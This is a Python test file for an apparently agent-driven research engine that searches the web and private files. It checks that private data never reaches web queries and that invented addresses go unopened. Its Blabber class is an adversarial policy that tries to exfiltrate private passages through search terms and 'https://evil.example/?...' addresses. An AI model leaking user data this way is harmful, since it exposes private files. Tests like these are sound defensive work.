"""Runs on the web and in the library: who may know what, and what counts as having looked."""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import replace

import pytest
from fakes import FakeWorld, FirstLineReader, ReadEverythingPolicy, document_of, scripted_roles
from two_sides import FakeWeb, TwoSidedDiary

from engine.agent.control import RunControl
from engine.agent.extractive import extractive_roles
from engine.agent.plain_statistics import NoStatistics
from engine.agent.roles import Action, Browse, Conclude, EpisodeView, Findings, ReadingTask, Search
from engine.agent.sides import sided
from engine.agent.typed import typed_addresses, without_addresses
from engine.domain import EngineReport, EngineState, Outcome, Plan, Reach, Side, SubQuestion, SubQuestionId
from engine.errors import NetworkRefused
from engine.events import (
    CommandGiven,
    CommandKind,
    EpisodeEnded,
    PlanMade,
    RunContinued,
    RunEnded,
    SearchRan,
    SourceFailed,
    SourceRead,
)

QUESTION = "where do herons nest?"
HERONS = "https://birds.example/herons"
REEDS = "https://reeds.example/"
DIARY = "file:///home/someone/diary.txt"


def web_pages():
    return {
        HERONS: document_of("herons nest in tall trees", title="Herons"),
        REEDS: document_of("some herons nest in reeds", title="Reeds"),
    }


def private_files(words: str = "my secret is that herons nest behind the barn"):
    return {DIARY: document_of(words, title="Diary")}


def test_with_both_all_of_the_web_comes_before_any_file_is_read():
    diary = TwoSidedDiary("where do herons nest? what do herons eat?")
    state = diary.run(web=FakeWeb(web_pages()), library=FakeWorld(private_files()))
    sides = [episode.subquestion.side for episode in state.episodes]
    assert sides == [Side.WEB, Side.WEB, Side.LIBRARY, Side.LIBRARY]
    searched = [ran.where for ran in diary.events(SearchRan)]
    assert searched == ["web", "web", "library", "library"]
    read = [read.source.address for read in diary.events(SourceRead)]
    assert read == [HERONS, REEDS, DIARY] or set(read[:2]) == {HERONS, REEDS}
    assert state.outcome is Outcome.COMPLETE


def test_the_report_holds_what_both_sides_found_under_one_heading():
    state = TwoSidedDiary(QUESTION).run(web=FakeWeb(web_pages()), library=FakeWorld(private_files()))
    assert state.report is not None
    assert [section.title for section in state.report.sections] == ["where do herons nest?"]
    quoted = {state.passages[claim.passages[0]].quote for claim in state.report.sections[0].claims}
    assert quoted == {
        "herons nest in tall trees",
        "some herons nest in reeds",
        "my secret is that herons nest behind the barn",
    }


def test_a_run_on_the_web_knows_no_library():
    state = TwoSidedDiary(QUESTION, reach=Reach.WEB).run(web=FakeWeb(web_pages()))
    assert {source.address for source in state.sources.values()} == {HERONS, REEDS}
    assert state.outcome is Outcome.COMPLETE


def test_search_engines_are_asked_in_the_words_of_the_question():
    one = SubQuestion(
        id=SubQuestionId(1),
        text="How tall is the tower at https://towers.example/1?",
        queries=("tall tower", "tall tower maximum limit number", "tower"),
    )
    outward, inward = sided(Plan(subquestions=(one,)), reach=Reach.BOTH).subquestions
    assert outward.queries == ("How tall is the tower at", "tall tower")
    assert inward.queries == one.queries
    assert (inward.twin, inward.side) == (outward.id, Side.LIBRARY)


class Blabber:
    """A policy, and the reader beside it, that try to send everything they were ever told."""

    def __init__(self) -> None:
        self.knows: list[str] = []

    def next_action(self, view: EpisodeView) -> Action:
        episode = view.episode
        self.knows += [passage.quote for passage in (*view.earlier, *episode.passages)]
        asked = {ran.query for ran in episode.searches}
        words = [*episode.subquestion.queries, *self.knows, repr(view)[:500]]
        fresh = [word for word in words if word not in asked][:3]
        if fresh and len(asked) < view.budget.searches_per_episode:
            return Search(queries=tuple(fresh), reason="To leak.")
        composed = [f"https://evil.example/?{word}" for word in self.knows]
        left = [
            result.address for ran in episode.searches for result in ran.results if result.address not in episode.opened
        ]
        if left and len(episode.opened) < view.budget.sources_per_episode:
            return Browse(address=left[0], also=tuple(composed), reason="To leak.")
        return Conclude(found=True, reason="All is out.")

    def read(self, tasks: Sequence[ReadingTask]) -> tuple[Findings, ...]:
        for task in tasks:
            self.knows += [task.document.text, *(passage.quote for passage in task.known)]
        return FirstLineReader().read(tasks)


def test_200_pairs_of_runs_that_differ_in_private_files_alone_send_the_same():
    rng = random.Random(4)
    words = "herons nest secret barn account 4711 reeds trees fish mother diagnosis password".split()
    for pair in range(200):
        sent = []
        for _ in range(2):
            files = {
                f"file:///private/{number}.txt": document_of(" ".join(rng.choices(words, k=rng.randint(3, 40))))
                for number in range(rng.randint(1, 6))
            }
            # One and the same gossip plays both agents: it can only tell what the loop has told it.
            gossip = Blabber()
            roles = replace(scripted_roles(), policy=gossip, reader=gossip)
            web = FakeWeb(web_pages())
            diary = TwoSidedDiary(f"where do herons nest? and number {pair}?")
            if pair % 4 == 3:
                started = diary.follow(web=web, library=FakeWorld(files), web_roles=roles, library_roles=roles)
                for _ in zip(range(5), started, strict=False):
                    pass
                diary.add(RunContinued())
            diary.run(web=web, library=FakeWorld(files), web_roles=roles, library_roles=roles)
            assert any("secret" in known or "herons" in known for known in gossip.knows)
            sent.append(web.sent)
        assert sent[0] == sent[1], pair


def test_the_numbers_of_passages_on_the_web_do_not_depend_on_the_library():
    def web_numbers(files):
        state = TwoSidedDiary(QUESTION).run(web=FakeWeb(web_pages()), library=FakeWorld(files))
        web_ids = {source.id for source in state.sources.values() if source.address.startswith("https:")}
        return {passage.quote: number for number, passage in state.passages.items() if passage.source_id in web_ids}

    many = {f"file:///{n}": document_of(f"herons nest number {n}") for n in range(5)}
    assert web_numbers(private_files()) == web_numbers(many)


# --- what may be opened --------------------------------------------------------------------------------------------


class Composer(ReadEverythingPolicy):
    """Opens an address of its own making after its first search."""

    def __init__(self, address: str) -> None:
        self._address = address

    def next_action(self, view: EpisodeView) -> Action:
        if not view.episode.searches or self._address in view.episode.opened:
            return super().next_action(view)
        return Browse(address=self._address, reason="I made it up.")


def test_300_composed_addresses_are_not_opened():
    rng = random.Random(7)
    opened: list[str] = []
    for _ in range(300):
        path = "".join(rng.choices("abcdefghij/?=&%.", k=rng.randint(1, 30)))
        twist = rng.choice(["", "www.", "x."])
        address = rng.choice(
            [
                f"https://{twist}birds.example/{path}",
                f"{HERONS}{rng.choice(['?', '#', '/', ' ', '%20'])}{path}",
                HERONS.upper(),
            ]
        )
        web = FakeWeb(web_pages())
        roles = replace(scripted_roles(), policy=Composer(address))
        TwoSidedDiary(QUESTION, reach=Reach.WEB).run(web=web, web_roles=roles)
        opened += [line for line in web.sent if line == f"page {address}"]
    assert opened == []


def test_an_address_that_the_person_wrote_is_opened_first():
    diary = TwoSidedDiary(f"what does {REEDS} say of herons (see also {HERONS})?", reach=Reach.WEB)
    web = FakeWeb(web_pages())
    diary.run(web=web)
    assert diary.events(SearchRan)[0].where == "question"
    assert {result.address for result in diary.events(SearchRan)[0].results} == {REEDS, HERONS}
    assert f"page {REEDS}" in web.sent


def test_the_words_of_an_address_are_not_words_of_the_question():
    assert without_addresses("what does https://a.example/x_(y), say of herons?") == "what does , say of herons?"
    assert without_addresses(" https://a.example/heron-nest. ") == ""
    diary = TwoSidedDiary(f"{REEDS}", reach=Reach.WEB)
    web = FakeWeb(web_pages())
    diary.run(web=web, web_roles=extractive_roles(NoStatistics()))
    assert [line for line in web.sent if line.startswith("query")] == []
    assert f"page {REEDS}" in web.sent


def test_addresses_in_a_question_lose_the_punctuation_around_them():
    text = "compare https://a.example/x_(y), (https://b.example/z). and “https://c.example/?q=1”!"
    assert typed_addresses(text) == ("https://a.example/x_(y)", "https://b.example/z", "https://c.example/?q=1")


def test_addresses_in_a_question_about_the_library_are_only_words():
    diary = TwoSidedDiary(f"what does {REEDS} say of herons?", reach=Reach.LIBRARY)
    diary.run(library=FakeWorld(private_files()))
    assert [ran.where for ran in diary.events(SearchRan)] == ["library"]


class Follower(ReadEverythingPolicy):
    """Opens the first link of what it has read."""

    def next_action(self, view: EpisodeView) -> Action:
        links = [link for reading in view.episode.read for link in reading.links]
        if links and links[0] not in view.episode.opened:
            return Browse(address=links[0], reason="It is linked.")
        return super().next_action(view)


class LinkingWeb(FakeWeb):
    """Every page leads to one that no search finds."""

    def open_source(self, address):
        return replace(super().open_source(address), links=("https://linked.example/",))


def test_links_are_followed_only_where_nothing_private_is_known():
    pages = {**web_pages(), "https://linked.example/": document_of("nothing to be searched for")}
    roles = replace(scripted_roles(), policy=Follower())
    alone, beside = LinkingWeb(pages), LinkingWeb(pages)
    TwoSidedDiary(QUESTION, reach=Reach.WEB).run(web=alone, web_roles=roles)
    TwoSidedDiary(QUESTION).run(web=beside, library=FakeWorld(private_files()), web_roles=roles)
    assert "page https://linked.example/" in alone.sent
    assert "page https://linked.example/" not in beside.sent


def test_only_the_approved_words_are_searched_for():
    words = "herons behind barns"
    web = FakeWeb(web_pages())
    gossip = Blabber()
    roles = replace(scripted_roles(), policy=gossip, reader=gossip)
    diary = TwoSidedDiary(words, reach=Reach.WEB, approved_query=words)
    diary.run(web=web, web_roles=roles)
    assert [line for line in web.sent if line.startswith("query")] == [f"query {words}"]
    assert diary.events(PlanMade)[0].plan.subquestions[0].queries == (words,)


def test_an_address_in_approved_words_is_not_opened():
    words = f"herons behind barns {REEDS}"
    web = FakeWeb(web_pages())
    TwoSidedDiary(words, reach=Reach.WEB, approved_query=words).run(web=web)
    assert [line for line in web.sent if line.startswith("query")] == [f"query {words}"]
    assert web.sent[0] == f"query {words}"


def test_what_a_person_supplies_is_not_told_to_the_agent_of_the_web():
    gossip = Blabber()
    roles = replace(scripted_roles(), policy=gossip)
    copy = document_of("herons nest where members with number 4711 are told")
    web = FakeWeb(web_pages(), unreadable=frozenset([HERONS]), supplied={"copy": copy})
    diary = TwoSidedDiary(QUESTION, reach=Reach.WEB)
    stream = diary.follow(web=web, web_roles=roles, control=(control := RunControl()))
    for stored in stream:
        if isinstance(stored.event, SourceFailed):
            control.give(CommandGiven(kind=CommandKind.SUPPLY_SOURCE, target=HERONS, file="copy"))
    assert any("4711" in passage.quote for passage in diary_state(diary).passages.values())
    assert not any("4711" in line for line in web.sent)
    assert not any("4711" in known for known in gossip.knows)


def test_why_a_supplied_copy_cannot_be_read_is_not_told_to_the_agent_of_the_web():
    seen: list[str] = []

    class Noting(ReadEverythingPolicy):
        def next_action(self, view: EpisodeView) -> Action:
            seen.append(repr(view))
            return super().next_action(view)

    web = FakeWeb(web_pages(), unreadable=frozenset([HERONS]))
    diary = TwoSidedDiary("where do herons nest? what do herons eat?", reach=Reach.WEB)
    control = RunControl()
    roles = replace(scripted_roles(), policy=Noting())
    for stored in diary.follow(web=web, web_roles=roles, control=control):
        if isinstance(stored.event, SourceFailed) and not stored.event.is_supplied:
            control.give(CommandGiven(kind=CommandKind.SUPPLY_SOURCE, target=HERONS, file="missing"))
    assert any(failed.is_supplied for failed in diary.events(SourceFailed))
    assert not any("not there any more" in view for view in seen)


def test_engines_that_are_mostly_silent_do_not_make_a_not_found():
    class Encyclopaedia(FakeWeb):
        def search_all(self, queries, *, limit):
            for answer in super().search_all(queries, limit=limit):
                blocked = [
                    EngineReport(name=name, state=EngineState.BLOCKED, words="too many requests") for name in ("A", "B")
                ]
                yield replace(answer, results=(), engines=(*answer.engines, *blocked))

    web = Encyclopaedia({})
    web.state = EngineState.EMPTY
    state = TwoSidedDiary(QUESTION, reach=Reach.WEB).run(web=web)
    assert state.outcome is Outcome.FAILED
    assert "A and B: too many requests" in state.end_reason


def test_the_web_is_not_taken_up_again_once_a_file_was_read():
    web = FakeWeb(web_pages())
    web.state = EngineState.BLOCKED
    diary = TwoSidedDiary(QUESTION)
    assert diary.run(web=web, library=FakeWorld({})).outcome is Outcome.FAILED
    web.state, web.sent = EngineState.ANSWERED, []
    diary.add(RunContinued())
    diary.run(web=web, library=FakeWorld({}))
    assert web.sent == []


# --- blocked is not empty ------------------------------------------------------------------------------------------


def test_a_run_that_no_engine_answered_fails_and_says_so():
    web = FakeWeb(web_pages())
    web.state = EngineState.BLOCKED
    diary = TwoSidedDiary(QUESTION, reach=Reach.WEB)
    state = diary.run(web=web)
    assert state.outcome is Outcome.FAILED
    assert "No search engine answered" in state.end_reason
    assert "too many requests" in state.end_reason
    assert state.report is None


def test_an_episode_that_nobody_answered_does_not_end_as_if_nothing_was_there():
    web = FakeWeb(web_pages())
    web.state = EngineState.BLOCKED
    diary = TwoSidedDiary(QUESTION)
    diary.run(web=web, library=FakeWorld(private_files()), web_roles=extractive_roles(NoStatistics()))
    assert diary.events(EpisodeEnded)[0].reason == "No search engine answered."


def test_going_offline_ends_the_run_before_the_next_step_and_it_can_go_on():
    web = FakeWeb(web_pages())
    diary = TwoSidedDiary(QUESTION)
    with pytest.raises(NetworkRefused):
        for stored in diary.follow(web=web, library=FakeWorld(private_files())):
            if isinstance(stored.event, SearchRan):
                web.is_offline = True
    diary.add(RunEnded(outcome=Outcome.FAILED, reason="offline"))
    web.is_offline = False
    diary.add(RunContinued())
    assert diary.run(web=web, library=FakeWorld(private_files())).outcome is Outcome.COMPLETE


def test_it_searches_again_when_it_goes_on():
    web = FakeWeb(web_pages())
    web.state = EngineState.UNREACHABLE
    diary = TwoSidedDiary(QUESTION, reach=Reach.WEB)
    diary.run(web=web)
    web.state = EngineState.ANSWERED
    diary.add(RunContinued())
    assert diary.run(web=web).outcome is Outcome.COMPLETE


def test_an_engine_that_finds_nothing_is_believed():
    web = FakeWeb({})
    web.state = EngineState.EMPTY
    assert TwoSidedDiary(QUESTION, reach=Reach.WEB).run(web=web).outcome is Outcome.NOT_FOUND


def test_with_both_the_library_is_enough_where_the_web_is_blocked():
    web = FakeWeb({})
    web.state = EngineState.BLOCKED
    state = TwoSidedDiary(QUESTION).run(web=web, library=FakeWorld(private_files()))
    assert state.outcome is Outcome.COMPLETE


def test_pages_that_were_found_and_could_not_be_read_are_not_called_irrelevant():
    web = FakeWeb(web_pages(), unreadable=frozenset(web_pages()))
    state = TwoSidedDiary(QUESTION, reach=Reach.WEB).run(web=web)
    assert state.outcome is Outcome.FAILED
    assert "none of the 2 that were tried could be read" in state.end_reason


# --- sources that a person supplies --------------------------------------------------------------------------------


def supplied(address: str, file: str) -> RunControl:
    control = RunControl()
    control.give(CommandGiven(kind=CommandKind.SUPPLY_SOURCE, target=address, file=file))
    return control


def test_a_supplied_source_lets_a_run_go_on_that_could_read_nothing():
    copy = document_of("herons nest on the church, says the saved page")
    web = FakeWeb(web_pages(), unreadable=frozenset(web_pages()), supplied={"copy": copy})
    diary = TwoSidedDiary(QUESTION, reach=Reach.WEB)
    diary.run(web=web)
    diary.add(RunContinued())
    state = diary.run(web=web, control=supplied(HERONS, "copy"))
    assert state.outcome is Outcome.COMPLETE
    assert state.report is not None
    assert state.report.claims[0].text == "herons nest on the church, says the saved page"
    assert not any(failure.address == HERONS for episode in state.episodes for failure in episode.failed)


def test_a_supplied_source_lets_a_finished_report_be_written_again():
    copy = document_of("herons nest on the church, says the saved page")
    web = FakeWeb(web_pages(), unreadable=frozenset([HERONS]), supplied={"copy": copy})
    diary = TwoSidedDiary(QUESTION, reach=Reach.WEB)
    before = diary.run(web=web)
    diary.add(RunContinued())
    reports = []
    for _ in diary.follow(web=web, control=supplied(HERONS, "copy")):
        reports.append(diary_state(diary).current_report)
    after = diary_state(diary)
    assert before.report is not None and after.report is not None
    assert len(after.report.claims) > len(before.report.claims)
    assert None not in reports


def test_a_supplied_copy_that_cannot_be_read_says_so_and_leaves_the_report_alone():
    web = FakeWeb(web_pages(), unreadable=frozenset([HERONS]))
    diary = TwoSidedDiary(QUESTION, reach=Reach.WEB)
    before = diary.run(web=web)
    diary.add(RunContinued())
    after = diary.run(web=web, control=supplied(HERONS, "missing"))
    assert after.report == before.report
    assert "not there any more" in diary.events(SourceFailed)[-1].reason
    assert diary.events(RunEnded)[-1].outcome is Outcome.COMPLETE


def test_supplying_an_address_that_nobody_met_changes_nothing():
    web = FakeWeb(web_pages())
    diary = TwoSidedDiary(QUESTION, reach=Reach.WEB)
    before = diary.run(web=web)
    diary.add(RunContinued())
    assert diary.run(web=web, control=supplied("https://other.example/", "copy")).report == before.report


def diary_state(diary: TwoSidedDiary):
    from engine.agent.state import fold

    return fold(diary.trace)
